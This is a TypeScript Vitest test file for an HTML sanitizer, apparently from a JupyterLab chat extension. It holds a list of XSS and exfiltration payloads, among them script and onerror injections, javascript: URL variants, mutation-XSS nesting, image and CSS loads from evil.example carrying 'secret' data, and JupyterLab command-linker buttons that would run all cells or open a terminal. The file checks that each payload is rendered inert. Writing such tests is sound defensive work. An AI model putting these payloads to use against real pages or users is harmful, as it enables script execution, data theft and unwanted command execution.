import { describe, expect, it } from 'vitest';
import { readLink } from '../links';
import { sanitize } from './sanitize';

const translate = (text: string, ...args: (string | number)[]) => text.replace('%1', String(args[0] ?? ''));

const show = (html: string) => {
  const place = document.createElement('div');
  place.append(sanitize(html, translate));
  return place;
};

/** Whatever is shown, none of this may be in it. */
const inert = (place: HTMLElement) => {
  for (const element of place.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(['href', 'target', 'rel', 'src', 'alt', 'class', 'title', 'start', 'open', 'align']).toContain(
        name,
      );
      if (name === 'href') {
        expect(value).toMatch(/^(https?:|mailto:)/);
      }
      if (name === 'src') {
        expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/);
      }
    }
  }
  expect(
    place.querySelector('script, style, iframe, svg, math, form, link, meta, base, object, embed, video'),
  ).toBeNull();
};

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/?d=secret">',
  '<img src="//evil.example/x.png">',
  '<img srcset="https://evil.example/x 1x" src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<picture><source srcset="https://evil.example/x"><img src="https://evil.example/y"></picture>',
  '<svg onload=alert(1)><use href="https://evil.example/x#y"/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=childNodes><input name=attributes><button>Go</button></form>',
  '<base href="https://evil.example/">',
  '<link rel=prefetch href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<style>@import url(https://evil.example/x.css); @font-face{src:url(https://evil.example/f)}</style>',
  '<p style="background:url(https://evil.example/x)">a</p>',
  '<table background="https://evil.example/x"><tr><td background="https://evil.example/x">a</td></tr></table>',
  '<video poster="https://evil.example/x" src="https://evil.example/v"></video><audio src="https://evil.example/a">',
  '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="\u0001javascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:x">a</a>',
  '<a href="/lab/api/kernels?delete">a</a>',
  '<a href="#jp-main-dock-panel">a</a>',
  '<a href="https://ok.example" ping="https://evil.example" onclick=alert(1) id=x name=y>a</a>',
  '<button data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args="{}">Run</button>',
  '<p data-commandlinker-command="terminal:create-new">x</p>',
  '<div class="jp-Dialog ck-chat" id="jp-main-dock-panel" contenteditable tabindex=0 draggable=true>x</div>',
  '<input type=text value=x><input type=image src="https://evil.example/x"><textarea><img src=x></textarea>',
  '<details open ontoggle=alert(1)><summary>s</summary></details>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<p>unclosed <b <img src=x onerror=alert(1)',
];

describe('sanitize', () => {
  it.each(PAYLOADS)('makes %s inert, at every length of it', (payload) => {
    for (let length = 1; length <= payload.length; length++) {
      inert(show(payload.slice(0, length)));
    }
  });

  it('keeps what Markdown makes', () => {
    const html =
      '<h2>T</h2><p>a <strong>b</strong> <code>c</code><br></p><ol start="3"><li>d</li></ol>' +
      '<table><thead><tr><th align="right">h</th></tr></thead></table><blockquote><p>q</p></blockquote>';
    expect(show(html).innerHTML).toBe(html);
  });

  it('keeps highlighting but no class that means something', () => {
    const html = '<pre><code class="language-python"><span class="\u037c5">def</span></code></pre>';
    expect(show(html).innerHTML).toBe(html);
    expect(show('<span class="jp-Dialog">x</span>').innerHTML).toBe('<span>x</span>');
  });

  it('opens links elsewhere and tells them nothing', () => {
    const link = show('<a href="https://ok.example/a">a</a>').querySelector('a');
    expect(link?.outerHTML).toContain('target="_blank"');
    expect(link?.rel).toBe('noopener noreferrer nofollow');
  });

  it('shows a remote image as a link to it', () => {
    const place = show('<img src="https://pics.example/a.png" alt="A plot">');
    expect(place.querySelector('img')).toBeNull();
    expect(place.textContent).toBe('image: pics.example (not loaded)');
    expect(place.querySelector('a')?.href).toBe('https://pics.example/a.png');
  });

  it('shows an image that is in the text', () => {
    expect(show('<img src="data:image/png;base64,iVBORw0=">').querySelector('img')).not.toBeNull();
  });

  it('shows task lists, and no other control', () => {
    const place = show('<ul><li><input type="checkbox" checked> done</li></ul><button>Press</button>');
    expect(place.querySelector('input')).toMatchObject({ disabled: true, checked: true });
    expect(place.querySelector('button')).toBeNull();
    expect(place.textContent).toContain('Press');
  });

  it('ends at a depth no text has', () => {
    expect(show(`${'<div>'.repeat(300)}deep`).querySelectorAll('div').length).toBeLessThanOrEqual(100);
  });
});

describe('readLink', () => {
  it.each(['relative', '/abs', '#x', '', 'ftp://x', 'file:///etc/passwd', 'blob:https://x/y'])(
    'refuses %s',
    (text) => {
      expect(readLink(text)).toBeNull();
    },
  );
});
